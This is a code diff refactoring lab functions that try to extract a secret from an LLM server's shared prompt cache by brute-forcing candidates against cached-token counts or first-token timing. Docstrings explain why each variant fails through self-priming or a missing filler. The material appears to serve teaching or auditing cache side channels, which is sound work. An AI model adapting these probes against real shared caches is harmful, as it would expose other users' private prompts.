@@ -12,43 +12,41 @@ from minikv.audit.oracle_client import OracleClient
 from ._table import entries
 
 
-def _blocks(card):
-    """The lab card's layout: (block size, secret length, alphabet, prefix, suffix)."""
-    return card["block_size"], card["secret_len"], card["alphabet"], card["prefix"], card["suffix"]
+def _next_block(card, found: str) -> tuple[str, int, int, str]:
+    """(prompt so far, end of the block holding the next unknown, unknowns in it, its known rest)."""
+    bs, n, prefix, suffix = card["block_size"], card["secret_len"], card["prefix"], card["suffix"]
+    start = len(prefix) + len(found)
+    end = (start // bs + 1) * bs
+    u = min(end - start, n - len(found))
+    return prefix + found, end, u, suffix[:end - start - u]
 
 
 # ============================================================================ L1 count oracle
 def oracle_no_filler(card):
     """Probes end exactly at the tested block: the server always computes the last prompt token,
     so that block is never served from cache and nothing ever hits."""
-    bs, n, alphabet, prefix, suffix = _blocks(card)
     found = ""
     with OracleClient(card) as oracle:
-        while len(found) < n:
-            start = len(prefix) + len(found)
-            end = (start // bs + 1) * bs
-            u = min(end - start, n - len(found))
-            for g in itertools.product(alphabet, repeat=u):
-                if oracle.cached_tokens(prefix + found + "".join(g) + suffix[:end - start - u]) >= end:
+        while len(found) < card["secret_len"]:
+            head, end, u, tail = _next_block(card, found)
+            for g in itertools.product(card["alphabet"], repeat=u):
+                if oracle.cached_tokens(head + "".join(g) + tail) >= end:
                     found += "".join(g)
                     break
             else:
-                found += alphabet[0] * u
+                found += card["alphabet"][0] * u
     return found
 
 
 def oracle_double_check(card):
     """Re-sends every probe that missed 'to be sure': the second send hits the attacker's own
     entry from the first (self-priming), so the first candidate always 'wins'."""
-    bs, n, alphabet, prefix, suffix = _blocks(card)
     found = ""
     with OracleClient(card) as oracle:
-        while len(found) < n:
-            start = len(prefix) + len(found)
-            end = (start // bs + 1) * bs
-            u = min(end - start, n - len(found))
-            for g in itertools.product(alphabet, repeat=u):
-                probe = prefix + found + "".join(g) + suffix[:end - start - u] + "#"
+        while len(found) < card["secret_len"]:
+            head, end, u, tail = _next_block(card, found)
+            for g in itertools.product(card["alphabet"], repeat=u):
+                probe = head + "".join(g) + tail + "#"
                 if oracle.cached_tokens(probe) >= end or oracle.cached_tokens(probe) >= end:
                     found += "".join(g)
                     break
@@ -66,16 +64,12 @@ def oracle_hard_coded(card):
 def timing_back_to_back(card):
     """Five samples of each candidate in a row, median: samples 2-5 hit the attacker's own entry
     from sample 1 (self-priming), so every candidate looks cached."""
-    bs, n, alphabet, prefix, suffix = _blocks(card)
     found = ""
     with OracleClient(card) as oracle:
-        while len(found) < n:
-            start = len(prefix) + len(found)
-            end = (start // bs + 1) * bs
-            u = min(end - start, n - len(found))
-            best = min(("".join(g) for g in itertools.product(alphabet, repeat=u)),
-                       key=lambda g: sorted(oracle.ttft_ms(prefix + found + g + suffix[:end - start - u] + "#")
-                                            for _ in range(5))[2])
+        while len(found) < card["secret_len"]:
+            head, _, u, tail = _next_block(card, found)
+            best = min(("".join(g) for g in itertools.product(card["alphabet"], repeat=u)),
+                       key=lambda g: sorted(oracle.ttft_ms(head + g + tail + "#") for _ in range(5))[2])
             found += best
     return found
 
@@ -83,19 +77,15 @@ def timing_back_to_back(card):
 def timing_rounds_no_flush(card):
     """Rounds over all candidates but no flush: a block with 10 candidates re-probes each one after
     only 9 others, before its first probe aged out of the attacker's quota (self-priming)."""
-    bs, n, alphabet, prefix, suffix = _blocks(card)
     found = ""
     with OracleClient(card) as oracle:
-        while len(found) < n:
-            start = len(prefix) + len(found)
-            end = (start // bs + 1) * bs
-            u = min(end - start, n - len(found))
-            cands = ["".join(g) for g in itertools.product(alphabet, repeat=u)]
-            samples = {c: [oracle.ttft_ms(prefix + found + c + suffix[:end - start - u] + "#")
-                           for _ in range(1)] for c in cands}
-            for _ in range(3):
+        while len(found) < card["secret_len"]:
+            head, _, u, tail = _next_block(card, found)
+            cands = ["".join(g) for g in itertools.product(card["alphabet"], repeat=u)]
+            samples = {c: [] for c in cands}
+            for _ in range(4):
                 for c in cands:
-                    samples[c].append(oracle.ttft_ms(prefix + found + c + suffix[:end - start - u] + "#"))
+                    samples[c].append(oracle.ttft_ms(head + c + tail + "#"))
             found += min(cands, key=lambda c: sorted(samples[c])[1])
     return found
 
